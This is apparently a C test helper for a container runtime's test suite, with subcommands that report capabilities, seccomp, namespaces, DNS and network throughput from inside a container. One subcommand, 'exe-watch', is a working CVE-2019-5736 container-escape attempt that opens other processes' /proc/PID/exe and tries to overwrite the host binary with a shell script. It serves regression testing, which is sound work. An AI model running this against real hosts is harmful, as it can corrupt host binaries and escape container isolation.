/* probe: a tiny static helper that runs inside test containers and reports what the process
 * sees, one line per subcommand, exit 0 (like crun's tests/init.c or youki's runtimetest).
 * Built by the test support with `cc -static -O2 -o probe tests/probe/probe.c`.
 *
 *   caps             CapEff=<hex> CapPrm=<hex> CapBnd=<hex>   (from /proc/self/status)
 *   keyctl           ok | <errno name>   keyctl(KEYCTL_GET_KEYRING_ID, session, create)
 *   unshare-user     ok | <errno name>   unshare(CLONE_NEWUSER)
 *   write PATH       ok | <errno name>   open(PATH, O_CREAT|O_WRONLY)
 *   nnp              0 | 1               prctl(PR_GET_NO_NEW_PRIVS)
 *   seccomp          the value of the Seccomp: line (0 none, 2 filter)
 *   whoami           uid=U gid=G groups=G1,G2
 *   pid              getpid()
 *   signal           prints "ready", waits for SIGINT or SIGTERM, prints its name, exits 130/143
 *   segv             dies of SIGSEGV (a real fault: even pid 1 cannot ignore it)
 *   udp-echo PORT    binds UDP PORT, prints "ready", answers each datagram with "echo:" + it
 *   exe-watch        the CVE-2019-5736 attacker: watches /proc for new processes, opens each
 *                    one's /proc/PID/exe, prints where an fd leads ("memfd T", "HOST T"; files
 *                    of the container itself are skipped, another container's image files
 *                    print "OVERLAY T") and keeps trying to write through it, printing
 *                    "WROTE T" if that ever works. Prints "watching" first.
 *   shm-make KEY     ok | <errno name>   shmget(KEY, 4096, IPC_CREAT) (it outlives the probe)
 *   shm-get KEY      ok | <errno name>   shmget(KEY, 0, 0): does this ipc namespace have it?
 *   dns udp|tcp FROM SERVER HEX...
 *                    sends each HEX (a raw DNS message) to SERVER port 53 from address FROM
 *                    ("-": any), over TCP in one connection with 2-byte length framing, and
 *                    prints each reply as hex, or "timeout" after 3 s, one line per message
 *   dns-time N SERVER HEX
 *                    sends the query N times over UDP, one at a time, and prints the median
 *                    round trip as "median_us=U" (the name lookup latency of the issue)
 *   tcp-sink PORT    accepts one TCP connection on PORT, reads it to EOF, prints "bytes=N"
 *   tcp-send IP PORT MIB
 *                    sends MIB MiB of zeros to IP:PORT in 256 KiB writes, half-closes, waits
 *                    for the peer's close (all of it read), prints "gbit_s=X" over that time
 *                    (the container-to-container throughput of issue 14: busybox nc copies
 *                    1 KiB at a time and tops out below 2 Gbit/s even on the host's loopback)
 */
#define _GNU_SOURCE
#include <errno.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <sys/prctl.h>
#include <sys/shm.h>
#include <sys/vfs.h>
#include <linux/magic.h>
#include <sys/stat.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <sys/syscall.h>
#include <unistd.h>

static const char *errname(int e) {
    static char buf[32];
    switch (e) {
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case EACCES: return "EACCES";
    case EROFS: return "EROFS";
    case EINVAL: return "EINVAL";
    case ENOSYS: return "ENOSYS";
    case EEXIST: return "EEXIST";
    case ENOSPC: return "ENOSPC";
    case EDQUOT: return "EDQUOT";
    case ENOMEM: return "ENOMEM";
    case EBUSY: return "EBUSY";
    case EFAULT: return "EFAULT";
    case EUSERS: return "EUSERS";
    case ENOKEY: return "ENOKEY";
    case EISDIR: return "EISDIR";
    case ENOTDIR: return "ENOTDIR";
    }
    snprintf(buf, sizeof buf, "errno%d", e);
    return buf;
}

static void result(long r) {
    puts(r >= 0 ? "ok" : errname(errno));
}

/* The value of "Key:" in /proc/self/status, without surrounding blanks. */
static const char *status_value(const char *key) {
    static char line[512];
    size_t n = strlen(key);
    FILE *f = fopen("/proc/self/status", "r");
    if (!f) return "?";
    while (fgets(line, sizeof line, f)) {
        if (strncmp(line, key, n) == 0 && line[n] == ':') {
            char *v = line + n + 1;
            while (*v == ' ' || *v == '\t') v++;
            v[strcspn(v, "\n")] = 0;
            fclose(f);
            return v;
        }
    }
    fclose(f);
    return "?";
}

static volatile sig_atomic_t got;
static void on_signal(int s) { got = s; }

/* exe-watch (see the top): the attack on a host binary through /proc/PID/exe. */
#define MAX_FDS 256
static int held[MAX_FDS], nheld;
static char seen[1 << 16];

static void try_writes(void) {
    for (int i = 0; i < nheld; i++) {
        char path[64], target[512] = "";
        if (held[i] < 0) continue;
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        if (readlink(path, target, sizeof target - 1) < 0) continue;
        int w = open(path, O_WRONLY);
        if (w < 0) continue; /* ETXTBSY while the binary runs, EPERM for a sealed memfd */
        if (write(w, "#!/bin/sh\necho pwned\n", 21) == 21) printf("WROTE %s\n", target);
        else printf("OPENED-FOR-WRITE %s\n", target);
        fflush(stdout);
        close(w);
        close(held[i]);
        held[i] = -1;
    }
}

static void look(int pid, dev_t root_dev) {
    char path[64], link[64], target[512] = "";
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return; /* not dumpable, or gone: try again on the next pass */
    struct stat st;
    if (fstat(fd, &st) == 0 && st.st_dev == root_dev) {
        seen[pid] = 2; /* the container's own binary: the exec happened */
        close(fd);
        return;
    }
    struct statfs sf;
    if (fstatfs(fd, &sf) == 0 && sf.f_type == OVERLAYFS_SUPER_MAGIC) {
        /* Another container's image file (--pid container:): its writes go to that
         * container's upper dir, never to a host file. Reported, not attacked. */
        snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
        if (readlink(link, target, sizeof target - 1) < 0) strcpy(target, "?");
        printf("OVERLAY %s\n", target);
        fflush(stdout);
        seen[pid] = 2;
        close(fd);
        return;
    }
    snprintf(link, sizeof link, "/proc/self/fd/%d", fd);
    if (readlink(link, target, sizeof target - 1) < 0) strcpy(target, "?");
    printf("%s %s\n", strncmp(target, "/memfd:", 7) ? "HOST" : "memfd", target);
    fflush(stdout);
    seen[pid] = 2;
    if (nheld < MAX_FDS) held[nheld++] = fd;
    else close(fd);
}

static int exe_watch(void) {
    struct stat rst;
    if (stat("/", &rst) < 0) return 1;
    int self = getpid();
    puts("watching");
    fflush(stdout);
    for (;;) {
        DIR *d = opendir("/proc");
        if (!d) return 1;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self || pid >= (int)sizeof seen || seen[pid] == 2) continue;
            look(pid, rst.st_dev);
        }
        closedir(d);
        try_writes();
    }
}

/* An IPv4 or IPv6 address text and port as a sockaddr; returns its length, 0 if malformed. */
static socklen_t dns_addr(const char *text, int port, struct sockaddr_storage *ss) {
    memset(ss, 0, sizeof *ss);
    struct sockaddr_in *a4 = (struct sockaddr_in *)ss;
    struct sockaddr_in6 *a6 = (struct sockaddr_in6 *)ss;
    if (inet_pton(AF_INET, text, &a4->sin_addr) == 1) {
        a4->sin_family = AF_INET;
        a4->sin_port = htons((unsigned short)port);
        return sizeof *a4;
    }
    if (inet_pton(AF_INET6, text, &a6->sin6_addr) == 1) {
        a6->sin6_family = AF_INET6;
        a6->sin6_port = htons((unsigned short)port);
        return sizeof *a6;
    }
    return 0;
}

static size_t unhex(const char *h, unsigned char *out, size_t max) {
    size_t n = 0;
    for (; h[0] && h[1] && n < max; h += 2) {
        unsigned v;
        if (sscanf(h, "%2x", &v) != 1) break;
        out[n++] = (unsigned char)v;
    }
    return n;
}

static int read_all(int fd, unsigned char *buf, size_t len) {
    for (size_t got = 0; got < len;) {
        ssize_t r = read(fd, buf + got, len - got);
        if (r <= 0) return -1;
        got += (size_t)r;
    }
    return 0;
}

static int dns_socket(const char *from, const char *server, int tcp, struct sockaddr_storage *to,
                      socklen_t *tolen) {
    *tolen = dns_addr(server, 53, to);
    if (!*tolen) return -1;
    int fd = socket(to->ss_family, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
    if (fd < 0) return -1;
    struct timeval tv = {3, 0};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    if (strcmp(from, "-")) {
        struct sockaddr_storage src;
        socklen_t slen = dns_addr(from, 0, &src);
        if (!slen || bind(fd, (struct sockaddr *)&src, slen) < 0) return -1;
    }
    if (connect(fd, (struct sockaddr *)to, *tolen) < 0) return -1;
    return fd;
}

static int dns_send(int argc, char **argv) {
    int tcp = !strcmp(argv[2], "tcp");
    struct sockaddr_storage to;
    socklen_t tolen;
    int fd = dns_socket(argv[3], argv[4], tcp, &to, &tolen);
    if (fd < 0) {
        result(-1);
        return 1;
    }
    for (int i = 5; i < argc; i++) {
        unsigned char q[4098], r[65536];
        size_t n = unhex(argv[i], q + 2, sizeof q - 2);
        ssize_t got;
        if (tcp) {
            q[0] = (unsigned char)(n >> 8);
            q[1] = (unsigned char)n;
            if (write(fd, q, n + 2) != (ssize_t)(n + 2)) { puts("closed"); continue; }
            unsigned char len[2];
            if (read_all(fd, len, 2) < 0) { puts(errno == EAGAIN ? "timeout" : "closed"); continue; }
            got = (len[0] << 8) | len[1];
            if (read_all(fd, r, (size_t)got) < 0) { puts("closed"); continue; }
        } else {
            send(fd, q + 2, n, 0);
            got = recv(fd, r, sizeof r, 0);
            if (got < 0) { puts("timeout"); continue; }
        }
        for (ssize_t j = 0; j < got; j++) printf("%02x", r[j]);
        putchar('\n');
        fflush(stdout);
    }
    return 0;
}

static int cmp_long(const void *a, const void *b) {
    long x = *(const long *)a, y = *(const long *)b;
    return (x > y) - (x < y);
}

static int dns_time(char **argv) {
    int n = atoi(argv[2]);
    if (n < 1 || n > 100000) n = 100;
    struct sockaddr_storage to;
    socklen_t tolen;
    int fd = dns_socket("-", argv[3], 0, &to, &tolen);
    if (fd < 0) {
        result(-1);
        return 1;
    }
    unsigned char q[4096], r[4096];
    size_t len = unhex(argv[4], q, sizeof q);
    long *us = calloc((size_t)n, sizeof *us);
    for (int i = 0; i < n; i++) {
        struct timespec a, b;
        clock_gettime(CLOCK_MONOTONIC, &a);
        send(fd, q, len, 0);
        if (recv(fd, r, sizeof r, 0) < 0) { puts("timeout"); return 1; }
        clock_gettime(CLOCK_MONOTONIC, &b);
        us[i] = (b.tv_sec - a.tv_sec) * 1000000L + (b.tv_nsec - a.tv_nsec) / 1000;
    }
    qsort(us, (size_t)n, sizeof *us, cmp_long);
    printf("median_us=%ld\n", us[n / 2]);
    return 0;
}

static int tcp_sink(const char *port) {
    int l = socket(AF_INET, SOCK_STREAM, 0), one = 1;
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons((unsigned short)atoi(port));
    setsockopt(l, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (l < 0 || bind(l, (struct sockaddr *)&a, sizeof a) < 0 || listen(l, 1) < 0) {
        result(-1);
        return 1;
    }
    int c = accept(l, NULL, NULL);
    static char buf[256 << 10];
    long long total = 0;
    ssize_t n;
    while ((n = read(c, buf, sizeof buf)) > 0) total += n;
    printf("bytes=%lld\n", total);
    close(c);
    return n < 0;
}

static int tcp_send(const char *ip, const char *port, const char *mib) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons((unsigned short)atoi(port));
    if (fd < 0 || inet_pton(AF_INET, ip, &a.sin_addr) != 1) {
        result(-1);
        return 1;
    }
    /* The sink may still be starting: try for up to 5 s. */
    int tries = 0;
    while (connect(fd, (struct sockaddr *)&a, sizeof a) < 0) {
        if (++tries > 500) { result(-1); return 1; }
        close(fd);
        fd = socket(AF_INET, SOCK_STREAM, 0);
        usleep(10000);
    }
    static char buf[256 << 10];
    long long left = atoll(mib) << 20, total = left;
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    while (left > 0) {
        ssize_t n = write(fd, buf, left < (long long)sizeof buf ? (size_t)left : sizeof buf);
        if (n <= 0) { result(-1); return 1; }
        left -= n;
    }
    shutdown(fd, SHUT_WR);
    while (read(fd, buf, sizeof buf) > 0) {}
    clock_gettime(CLOCK_MONOTONIC, &t1);
    double s = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
    printf("gbit_s=%.2f\n", (double)total * 8 / s / 1e9);
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: probe caps|keyctl|unshare-user|write PATH|nnp|seccomp|whoami|pid|signal|segv|udp-echo PORT\n");
        return 2;
    }
    const char *cmd = argv[1];
    if (!strcmp(cmd, "caps")) {
        printf("CapEff=%s", status_value("CapEff"));
        printf(" CapPrm=%s", status_value("CapPrm"));
        printf(" CapBnd=%s\n", status_value("CapBnd"));
    } else if (!strcmp(cmd, "keyctl")) {
        /* KEYCTL_GET_KEYRING_ID = 0, KEY_SPEC_SESSION_KEYRING = -3, create = 1 */
        result(syscall(SYS_keyctl, 0, -3, 1));
    } else if (!strcmp(cmd, "unshare-user")) {
        result(unshare(CLONE_NEWUSER));
    } else if (!strcmp(cmd, "write") && argc > 2) {
        result(open(argv[2], O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
    } else if (!strcmp(cmd, "nnp")) {
        printf("%d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
    } else if (!strcmp(cmd, "seccomp")) {
        puts(status_value("Seccomp"));
    } else if (!strcmp(cmd, "whoami")) {
        gid_t groups[256];
        int n = getgroups(256, groups);
        printf("uid=%d gid=%d groups=", (int)getuid(), (int)getgid());
        for (int i = 0; i < n; i++) printf(i ? ",%d" : "%d", (int)groups[i]);
        putchar('\n');
    } else if (!strcmp(cmd, "pid")) {
        printf("%d\n", (int)getpid());
    } else if (!strcmp(cmd, "signal")) {
        struct sigaction sa;
        memset(&sa, 0, sizeof sa);
        sa.sa_handler = on_signal;
        sigaction(SIGINT, &sa, NULL);
        sigaction(SIGTERM, &sa, NULL);
        puts("ready");
        fflush(stdout);
        while (!got) pause();
        puts(got == SIGINT ? "SIGINT" : "SIGTERM");
        fflush(stdout);
        return 128 + got;
    } else if (!strcmp(cmd, "udp-echo") && argc > 2) {
        int fd = socket(AF_INET, SOCK_DGRAM, 0);
        struct sockaddr_in a;
        memset(&a, 0, sizeof a);
        a.sin_family = AF_INET;
        a.sin_port = htons((unsigned short)atoi(argv[2]));
        if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof a) < 0) {
            result(-1);
            return 1;
        }
        puts("ready");
        fflush(stdout);
        for (;;) {
            char buf[1024] = "echo:";
            struct sockaddr_in from;
            socklen_t len = sizeof from;
            ssize_t n = recvfrom(fd, buf + 5, sizeof buf - 5, 0, (struct sockaddr *)&from, &len);
            if (n >= 0) sendto(fd, buf, (size_t)n + 5, 0, (struct sockaddr *)&from, len);
        }
    } else if (!strcmp(cmd, "shm-make") && argc > 2) {
        result(shmget((key_t)atoi(argv[2]), 4096, IPC_CREAT | 0600));
    } else if (!strcmp(cmd, "shm-get") && argc > 2) {
        result(shmget((key_t)atoi(argv[2]), 0, 0));
    } else if (!strcmp(cmd, "dns") && argc > 5) {
        return dns_send(argc, argv);
    } else if (!strcmp(cmd, "dns-time") && argc > 4) {
        return dns_time(argv);
    } else if (!strcmp(cmd, "tcp-sink") && argc > 2) {
        return tcp_sink(argv[2]);
    } else if (!strcmp(cmd, "tcp-send") && argc > 4) {
        return tcp_send(argv[2], argv[3], argv[4]);
    } else if (!strcmp(cmd, "exe-watch")) {
        return exe_watch();
    } else if (!strcmp(cmd, "segv")) {
        fflush(stdout);
        *(volatile int *)0 = 1;
        return 1;
    } else {
        fprintf(stderr, "probe: unknown subcommand %s\n", cmd);
        return 2;
    }
    return 0;
}
